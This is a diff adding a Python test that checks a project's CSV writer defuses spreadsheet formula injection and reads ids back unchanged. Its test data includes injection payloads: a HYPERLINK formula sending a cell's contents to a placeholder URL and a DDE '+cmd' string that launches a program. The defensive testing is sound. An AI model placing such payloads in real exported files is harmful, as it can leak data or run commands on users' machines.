@@ -85,3 +85,35 @@ def test_the_machine_record_names_what_decides_the_float32_kernels(monkeypatch):
     monkeypatch.setenv("ONEDNN_MAX_CPU_ISA", "AVX2")
     lowered = runs.cpu_kernels()
     assert lowered["variables"] == {**native["variables"], "ONEDNN_MAX_CPU_ISA": "AVX2"} and lowered != native
+
+
+def test_a_csv_a_spreadsheet_may_open_holds_no_formula_and_reads_back_as_written(tmp_path):
+    """Ids and column names that start like a formula (OWASP: =, +, -, @, tab, carriage return) get a leading ' in
+    every CSV the project writes, so a spreadsheet shows them as text; the project reads them back unchanged."""
+    import csv
+
+    import pandas as pd
+
+    from acgate.data.sources import read_csv_ids
+
+    ids = ['=HYPERLINK("http://x?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-5", "\tTAB", "plain",
+           "'=already quoted", "NA"]
+    frame = pd.DataFrame({"entity": ids, "kstar": [-1.5, 2.0, 3.0, -4.0, 5.0, 6.0, 7.0, 8.0],
+                          "=SUM(A1)": ["-x", "y", "@z", "w", "v", "u", "t", "s"]})
+    assert runs.spreadsheet_safe("\rCR") == "'\rCR"  # a carriage return too (pandas cannot read one back in an id)
+    runs.write_csv(tmp_path / "lags.csv", frame, index=False)
+    with open(tmp_path / "lags.csv", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(runs.FORMULA_STARTS) and not _number(cell)]
+    back = read_csv_ids(tmp_path / "lags.csv", ["entity"], written=True)
+    assert list(back.columns) == list(frame.columns)
+    assert back.entity.tolist() == ids and back["=SUM(A1)"].tolist() == frame["=SUM(A1)"].tolist()
+    assert back.kstar.tolist() == frame.kstar.tolist()  # numbers stay numbers, negative ones too
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
